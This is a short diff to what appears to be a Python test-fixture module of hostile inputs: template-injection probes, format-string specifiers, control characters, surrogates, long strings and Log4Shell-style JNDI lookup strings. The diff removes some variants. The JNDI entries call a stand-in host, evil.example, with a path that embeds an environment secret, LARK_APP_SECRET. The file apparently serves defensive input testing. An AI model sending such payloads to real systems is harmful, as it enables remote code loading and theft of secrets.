@@ -37,7 +37,7 @@ _TEMPLATES = [
         *(("{{", "}}"), ("${", "}"), ("#{", "}"), ("<%=", "%>"), ("{%", "%}"), ("[[", "]]")),
         *(("$(", ")"), ("@{", "}"), ("%{", "}"), ("{", "}")),
     )
-    for middle in ("7*7", "self.__class__", "0")
+    for middle in ("7*7", "self.__class__")
 ]
 _FORMATS = (
     "%s %d %n %x %p %c %% %99999d %1$s %s%s%s%s %*.*s {} {0} {0.__class__} {name!r} {:>99999} "
@@ -45,7 +45,7 @@ _FORMATS = (
 ).split()
 _JNDI = [
     f"${{{word}:{scheme}://evil.example/{path}}}"
-    for word in ("jndi", "${lower:j}ndi", "JNDI")
+    for word in ("jndi", "${lower:j}ndi")
     for scheme in ("ldap", "rmi", "dns")
     for path in ("a", "${env:LARK_APP_SECRET}")
 ]
@@ -94,7 +94,7 @@ _SECRETS = [
 ]
 _CODES = [
     *(f"a{chr(code)}b" for code in (*range(0x20), 0x7F)),
-    *(f"a{chr(code)}" for code in range(0x80, 0xA0, 3)),
+    *(f"a{chr(code)}" for code in range(0x80, 0xA0, 8)),
 ]
 _BLANKS = [
     f"a{char}b"
@@ -145,7 +145,7 @@ _SURROGATES = ["\ud800", "\udfff", "a\ud83d", "\udc00\ud800", "x\udcffy", "\udbf
 _LONG = [
     letter * length
     for length in (63, 64, 65, 127, 128, 129, 255, 256, 257, 512, 1024, 1025, 4096, 65_536)
-    for letter in ("x", "é", "字", "😀")
+    for letter in ("x", "字")
 ]
 
 
